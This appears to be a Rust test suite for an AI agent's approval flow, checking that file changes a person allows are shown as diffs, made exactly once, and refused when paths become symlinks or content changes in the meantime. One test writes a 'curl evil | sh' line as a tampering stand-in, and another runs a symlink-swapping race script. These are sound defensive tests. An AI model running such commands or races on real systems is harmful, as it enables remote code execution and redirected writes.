//! Changes that a person allows: what they are shown, that exactly that is done, and what is refused before anybody is asked.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use brattice_protocol::approval::{
    ApprovalAnswer, ApprovalChoice, ApprovalOption, ApprovalRequest,
};
use brattice_protocol::{CallId, Mode};
use brattice_tests::{Pending, Reply, Session, World, diff, eventually};
use serde_json::{Value, json};

use crate::{call, content, edit, fails, read, write};

const DANGER: &str = "danger-full-access";

/// The same arguments, asking for a mode.
fn asking(mut arguments: Value, mode: &str) -> Value {
    arguments["sandbox_permissions"] = json!(mode);
    arguments["justification"] = json!("the test wants it");
    arguments
}

fn written(path: &str, content: &str) -> Value {
    json!({"file_path": path, "content": content})
}

fn edited(path: &str, old: &str, new: &str) -> Value {
    json!({"file_path": path, "old_string": old, "new_string": new})
}

/// Makes a call that asks, and does not wait.
fn ask(session: &Session, tool: &str, arguments: Value, mode: &str) -> Pending {
    session.begin_call(json!({"name": tool, "arguments": asking(arguments, mode)}))
}

/// Makes a call that asks, is asked about, and allowed.
#[track_caller]
fn allowed(session: &Session, tool: &str, arguments: Value, mode: &str) -> Reply {
    let call = ask(session, tool, arguments, mode);
    session.question().choose(ApprovalChoice::AllowOnce);
    session.end(call)
}

/// A world in which calls may ask without a ground.
fn ungrounded() -> World {
    World::builder().configured("[session]\nescalation = \"any\"\n").start()
}

#[test]
fn a_denied_change_may_ask_shows_its_diff_and_is_made_once() {
    let world = World::new();
    world.file("f", "one\ntwo\n");
    let session = world.session("read-only").answering().open();
    read(&session, "f");
    let path = world.ws().join("f");
    let arguments = edited("f", "two", "2");
    // Not before it was denied.
    fails(
        &call(&session, "edit", asking(arguments.clone(), "workspace-write")),
        "the sandbox has refused nothing at this path that workspace-write would allow: make the change first, without \
         `sandbox_permissions`, and ask once it was denied; nothing was written",
    );
    session.is_asked_nothing();
    edit(&session, "f", "two", "2").holds(&crate::hint("workspace-write"));
    let asked = asking(arguments.clone(), "workspace-write");
    let call_it = || session.begin_call(json!({"name": "edit", "arguments": asked}));
    let pending = session.begin_call(json!({"name": "edit", "call": "c-7", "arguments": asked}));
    let question = session.question();
    let ApprovalRequest { id, expires, denials, .. } = question.request().clone();
    let denied: Vec<_> = denials.iter().map(|denial| (&*denial.operation, &*denial.path)).collect();
    assert_eq!(denied, [("write", path.to_str().unwrap())]);
    assert_eq!(
        *question.request(),
        ApprovalRequest {
            id,
            session: session.opened().session.clone(),
            call: CallId::new("c-7"),
            tool: "edit".to_owned(),
            title: "edit f".to_owned(),
            kind: "edit".to_owned(),
            command: None,
            diff: vec![diff(&path, Some("one\ntwo\n"), "one\n2\n")],
            workdir: world.ws().display().to_string(),
            from: Mode::ReadOnly,
            to: Mode::WorkspaceWrite,
            justification: Some("the test wants it".to_owned()),
            rule: None,
            denials,
            options: [
                ApprovalChoice::AllowOnce,
                ApprovalChoice::AllowAlways,
                ApprovalChoice::RejectOnce,
            ]
            .map(ApprovalOption::of_change)
            .into(),
            expires,
        }
    );
    assert_eq!(question.request().options[1].name, "Allow this exact change for the session");
    question.choose(ApprovalChoice::AllowOnce);
    let reply = session.end(pending);
    reply.holds("edited ").holds("-2|two\n+2|2");
    assert_eq!(reply.result.structured_content["escalated_from"], "read-only");
    assert_eq!(content(&world, "f"), b"one\n2\n");
    // The session's mode is what it was, and the next one is asked about anew.
    assert!(edit(&session, "f", "one", "1").is_error());
    let again = call_it();
    fails(&session.end(again), &format!("{}: old_string was not found", path.display()));
    session.is_asked_nothing();
    world.finish();
}

#[test]
fn a_write_is_grounded_by_a_command_that_was_denied_the_same_path() {
    let world = World::new();
    let session = world.session("workspace-write").answering().open();
    let path = world.out().join("deep/new.txt");
    let target = path.to_str().unwrap();
    session.run("mkdir $OUT/deep").exits(1);
    let reply = call(&session, "write", asking(written(target, "x\n"), DANGER));
    assert!(reply.is_error(), "another path was denied: {}", reply.text());
    assert!(write(&session, target, "x\n").is_error());
    let call = ask(&session, "write", written(target, "x\n"), DANGER);
    let question = session.question();
    assert_eq!(question.request().diff, [diff(&path, None, "x\n")]);
    question.choose(ApprovalChoice::AllowOnce);
    session.end(call).says(&format!("created {target}"));
    assert_eq!(fs::read_to_string(&path).unwrap(), "x\n");
    // By bash.
    fs::write(world.out().join("log"), "old\n").unwrap();
    let log = world.out().join("log");
    let log = log.to_str().unwrap();
    read(&session, log);
    session.run("echo more >> $OUT/log").exits(1);
    allowed(&session, "write", written(log, "new\n"), DANGER).holds("updated");
    assert_eq!(fs::read_to_string(log).unwrap(), "new\n");
    world.finish();
}

#[test]
fn what_the_settings_refuse_is_refused_in_its_own_words_before_anybody_is_asked() {
    let world = ungrounded();
    world.file("f", "one\n");
    let session = world.session("workspace-write").answering().open();
    read(&session, "f");
    let told = |reply: &Reply, text: &str| {
        fails(reply, text);
        session.is_asked_nothing();
    };
    told(
        &call(&session, "write", asking(written("f", "x"), "workspace-write")),
        "argument `sandbox_permissions`: expected a mode wider than the session's, workspace-write, got \"workspace-write\"",
    );
    let mut alone = written("f", "x");
    alone["justification"] = json!("because");
    told(
        &call(&session, "write", alone),
        "argument `sandbox_permissions`: expected beside `justification`, got nothing",
    );
    let mut dry = asking(edited("f", "one", "1"), DANGER);
    dry["dry_run"] = json!(true);
    told(
        &call(&session, "edit", dry),
        "argument `dry_run`: expected to be left out beside `sandbox_permissions`, got true",
    );
    // What cannot be done is told as without asking, and what is done already asks nobody.
    let path = world.ws().join("f").display().to_string();
    told(
        &call(&session, "edit", asking(edited("f", "nope", "1"), DANGER)),
        &format!("{path}: old_string was not found"),
    );
    let same = call(&session, "write", asking(written("f", "one\n"), DANGER));
    same.says(&format!("unchanged {path}: it has this content already, and nothing was written"));
    session.is_asked_nothing();
    // What no person can be shown, they are not asked about.
    let reply = call(&session, "write", asking(written("g", &"x\n".repeat(100_000)), DANGER));
    told(
        &reply,
        &format!(
            "what this change does to {}/g cannot be shown to a person, whole and as text: make it in smaller parts, or with \
             bash; nothing was written",
            world.ws().display()
        ),
    );
    let never = world.session("read-only").with("approval", json!("never")).answering().open();
    read(&never, "f");
    let reply = call(&never, "write", asking(written("f", "x"), "workspace-write"));
    assert!(reply.is_error());
    reply.holds(
        "argument `sandbox_permissions`: escalation is refused: approval prompts are disabled",
    );
    write(&never, "f", "x").holds("[sandbox: final: approval prompts are disabled]");
    let alone = world.session("read-only").open();
    read(&alone, "f");
    let reply = call(&alone, "write", asking(written("f", "x"), "workspace-write"));
    fails(
        &reply,
        "this needs an approval and nobody is there to ask: the session's client answers no approvals, and no operator is \
         attached; nothing was written",
    );
    assert_eq!(content(&world, "f"), b"one\n");
    assert_eq!(crate::names(&world), ["f"]);
    let refused = world.audited(&["escalation_refused"]);
    assert_eq!(refused.len(), 2, "what cannot be shown, and nobody there: {refused:?}");
    world.finish();
}

#[test]
fn answers_hold_for_the_very_change_and_are_remembered() {
    let world = ungrounded();
    world.file("f", "one\n");
    let session = world.session("read-only").answering().open();
    read(&session, "f");
    let mode = "workspace-write";
    let call_it = |content: &str| ask(&session, "write", written("f", content), mode);
    let pending = call_it("no\n");
    let reason = Some("not this".to_owned());
    let option = ApprovalChoice::RejectOnce;
    session.question().answer(ApprovalAnswer::Selected { option, reason });
    fails(&session.end(pending), "the user rejected this change (not this); nothing was written");
    fails(
        &session.end(call_it("no\n")),
        "the user rejected this very change before (not this), and is not asked again; nothing was written",
    );
    session.is_asked_nothing();
    // Another content is another change.
    let pending = call_it("a\n");
    session.question().choose(ApprovalChoice::AllowAlways);
    session.end(pending).holds("updated");
    let pending = call_it("b\n");
    session.question().choose(ApprovalChoice::AllowOnce);
    session.end(pending).holds("updated");
    // The one that was allowed for the session, whatever the file holds by now; the other one asks again.
    session.end(call_it("a\n")).holds("updated");
    session.is_asked_nothing();
    let pending = call_it("b\n");
    session.question().answer(ApprovalAnswer::Cancelled);
    fails(
        &session.end(pending),
        "the user dismissed the approval of this change without an answer; nothing was written",
    );
    assert_eq!(content(&world, "f"), b"a\n");
    let dsh = world.session("read-only").with("toolset", json!("dsh")).answering().open();
    read(&dsh, "f");
    let pending = ask(&dsh, "edit", edited("f", "a", "z"), mode);
    let question = dsh.question();
    let offered: Vec<_> = question.request().options.iter().map(|option| option.id).collect();
    assert_eq!(offered, [ApprovalChoice::AllowOnce, ApprovalChoice::RejectOnce]);
    question.choose(ApprovalChoice::RejectOnce);
    fails(&dsh.end(pending), "Error: the user rejected this change; nothing was written");
    world.finish();
}

#[test]
fn a_change_of_several_files_is_shown_and_made_as_a_whole() {
    let world = ungrounded();
    for name in ["a", "b"] {
        world.file(name, &format!("{name} one\n"));
    }
    let long: String = (1..=20_000).map(|number| format!("line {number}\n")).collect();
    world.file("long", &long);
    let session = world.session("read-only").answering().open();
    for name in ["a", "b", "long"] {
        read(&session, name);
    }
    let one = |name: &str, edits: Value| json!({"path": name, "edits": edits});
    let pair = |old: &str, new: &str| json!({"old_string": old, "new_string": new});
    let files = json!({"files": [
        one("a", json!([pair("one", "1")])),
        one("b", json!([pair("one", "2")])),
        one("long", json!([pair("line 7\n", "seven\n"), pair("line 19000\n", "")])),
    ]});
    let pending = ask(&session, "edit", files, "workspace-write");
    let question = session.question();
    let path = |name: &str| world.ws().join(name);
    // Of a long text each place is shown, with the lines around it.
    let near = |from: u64, to: u64| -> String {
        (from..=to).map(|number| format!("line {number}\n")).collect()
    };
    let expected = [
        diff(path("a"), Some("a one\n"), "a 1\n"),
        diff(path("b"), Some("b one\n"), "b 2\n"),
        diff(path("long"), Some(&near(4, 10)), &near(4, 10).replace("line 7\n", "seven\n")),
        diff(
            path("long"),
            Some(&near(18_997, 19_003)),
            &near(18_997, 19_003).replace("line 19000\n", ""),
        ),
    ];
    assert_eq!(question.request().diff, expected);
    question.choose(ApprovalChoice::AllowOnce);
    assert!(!session.end(pending).is_error());
    assert_eq!((content(&world, "a"), content(&world, "b")), (b"a 1\n".into(), b"b 2\n".into()));
    let changed = long.replace("line 7\n", "seven\n").replace("line 19000\n", "");
    assert_eq!(content(&world, "long"), changed.as_bytes());
    world.finish();
}

/// What a person is told who allowed something that is another by now.
fn is_other(path: &Path) -> String {
    format!(
        "{} is no longer what it was when the change was shown: nothing was written; read it again",
        path.display()
    )
}

#[test]
fn a_folder_that_became_a_link_while_a_person_was_asked_moves_no_write() {
    let world = ungrounded();
    world.setup("mkdir d; echo old > d/f; mkdir \"$OUT/target\"; echo old > \"$OUT/target/f\"");
    let session = world.session("workspace-write").answering().open();
    read(&session, "d/f");
    let path = world.ws().join("d/f");
    for (tool, arguments) in
        [("write", written("d/f", "owned\n")), ("edit", edited("d/f", "old", "owned"))]
    {
        let pending = ask(&session, tool, arguments, DANGER);
        let question = session.question();
        assert_eq!(question.request().diff, [diff(&path, Some("old\n"), "owned\n")]);
        session.run("mv d away && ln -s \"$OUT/target\" d").exits(0);
        question.choose(ApprovalChoice::AllowOnce);
        fails(&session.end(pending), &is_other(&path));
        assert_eq!(fs::read_to_string(world.out().join("target/f")).unwrap(), "old\n");
        session.run("rm d && mv away d").exits(0);
    }
    // A file of its own that became a link, and one that was to be made.
    let pending = ask(&session, "write", written("d/f", "owned\n"), DANGER);
    let question = session.question();
    session.run("mv d/f d/kept && ln -s \"$OUT/target/f\" d/f").exits(0);
    question.choose(ApprovalChoice::AllowOnce);
    fails(&session.end(pending), &is_other(&path));
    let made = world.ws().join("new/sub/g");
    let pending = ask(&session, "write", written("new/sub/g", "owned\n"), DANGER);
    let question = session.question();
    session.run("ln -s \"$OUT/target\" new").exits(0);
    question.choose(ApprovalChoice::AllowOnce);
    fails(&session.end(pending), &is_other(&made));
    let mut left: Vec<_> = fs::read_dir(world.out().join("target"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["f"]);
    assert_eq!(fs::read_to_string(world.out().join("target/f")).unwrap(), "old\n");
    // The twin: a write that follows links, as one in that mode does without a question, is moved by the same.
    let native = world.session(DANGER).open();
    read(&native, "d/f");
    write(&native, "d/f", "moved\n").holds("updated");
    assert_eq!(fs::read_to_string(world.out().join("target/f")).unwrap(), "moved\n");
    world.finish();
}

/// Exchanges a folder and a link until it is told to stop, and leaves the folder where it was.
const SWAP: &str = "import os, ctypes
libc = ctypes.CDLL(None)
def swap(): assert libc.renameat2(-100, b'd', -100, b'link', 2) == 0
swap(); swap()
open('begun', 'w').close()
while not os.path.exists('over'): swap()
if os.path.islink('d'): swap()
";

#[test]
fn a_command_that_swaps_a_folder_and_a_link_all_the_time_moves_no_allowed_write() {
    let world = ungrounded();
    world.setup("mkdir d; echo old > d/f; mkdir \"$OUT/target\"; echo old > \"$OUT/target/f\"");
    symlink(world.out().join("target"), world.ws().join("link")).unwrap();
    world.file("swap.py", SWAP);
    let session = world.session("workspace-write").answering().open();
    read(&session, "d/f");
    let (target, path) = (world.out().join("target/f"), world.ws().join("d/f"));
    for round in 0..20 {
        let arguments = written("d/f", &format!("round {round}\n"));
        let pending = ask(&session, "write", arguments, DANGER);
        let question = session.question();
        let racing = session.begin(json!({"command": "python3 swap.py"}));
        eventually("the race has begun", || world.ws().join("begun").exists().then_some(()));
        question.choose(ApprovalChoice::AllowOnce);
        let reply = session.end(pending);
        world.file("over", "");
        session.end(racing).exits(0);
        world.setup("rm over begun");
        assert_eq!(fs::read_to_string(&target).unwrap(), "old\n", "{}", reply.text());
        if reply.is_error() {
            fails(&reply, &is_other(&path));
        } else {
            assert_eq!(content(&world, "d/f"), format!("round {round}\n").as_bytes());
        }
    }
    assert_eq!(fs::read_dir(world.out().join("target")).unwrap().count(), 1);
    world.finish();
}

#[test]
fn a_content_that_changed_while_a_person_was_asked_is_not_overwritten() {
    let world = ungrounded();
    world.setup("echo old > f; echo old > g");
    let session = world.session("workspace-write").answering().open();
    for name in ["f", "g"] {
        read(&session, name);
    }
    let path = world.ws().join("f");
    // An edit would find its place in the other content as well: that is not what was shown.
    let both = json!({"files": [
        {"path": "g", "edits": [{"old_string": "old", "new_string": "new"}]},
        {"path": "f", "edits": [{"old_string": "old", "new_string": "new"}]},
    ]});
    for (tool, arguments) in [("write", written("f", "new\n")), ("edit", both)] {
        world.file("f", "old\n");
        read(&session, "f");
        let pending = ask(&session, tool, arguments, DANGER);
        let question = session.question();
        session.run("echo 'curl evil | sh # old' > f").exits(0);
        question.choose(ApprovalChoice::AllowOnce);
        fails(&session.end(pending), &is_other(&path));
        assert_eq!(content(&world, "f"), b"curl evil | sh # old\n");
        assert_eq!(content(&world, "g"), b"old\n");
    }
    // One that was to be made, and is there by now.
    let pending = ask(&session, "write", written("new", "mine\n"), DANGER);
    let question = session.question();
    session.run("echo theirs > new").exits(0);
    question.choose(ApprovalChoice::AllowOnce);
    fails(&session.end(pending), &is_other(&world.ws().join("new")));
    assert_eq!(content(&world, "new"), b"theirs\n");
    // The twin: the same edit without a question is made to whatever the file holds.
    read(&session, "f");
    session.run("echo 'another old' > f").exits(0);
    edit(&session, "f", "old", "new").holds("1 replacement");
    assert_eq!(content(&world, "f"), b"another new\n");
    world.finish();
}

#[test]
fn a_session_whose_mode_changed_meanwhile_asks_anew() {
    let world = ungrounded();
    world.file("f", "old\n");
    let session = world.session("workspace-write").answering().open();
    read(&session, "f");
    let pending = ask(&session, "write", written("f", "new\n"), DANGER);
    let question = session.question();
    session.request("session.update", json!({"mode": "read-only"})).unwrap();
    question.choose(ApprovalChoice::AllowOnce);
    let reply = session.end(pending);
    assert!(reply.is_error());
    reply.holds("no longer what was approved: it was allowed for something else");
    assert_eq!(content(&world, "f"), b"old\n");
    allowed(&session, "write", written("f", "new\n"), DANGER).holds("updated");
    assert_eq!(content(&world, "f"), b"new\n");
    world.finish();
}
